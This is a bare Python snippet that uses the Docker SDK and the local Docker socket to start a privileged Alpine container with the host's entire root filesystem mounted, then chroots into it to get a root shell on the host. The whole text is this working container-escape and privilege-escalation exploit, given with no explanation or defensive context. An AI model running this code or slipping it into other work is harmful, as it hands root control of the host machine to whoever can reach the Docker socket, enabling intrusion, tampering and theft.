import docker
c = docker.DockerClient(base_url='unix:///var/run/docker.sock')
c.containers.run('alpine', 'chroot /host sh', volumes={'/': {'bind': '/host'}}, privileged=True)
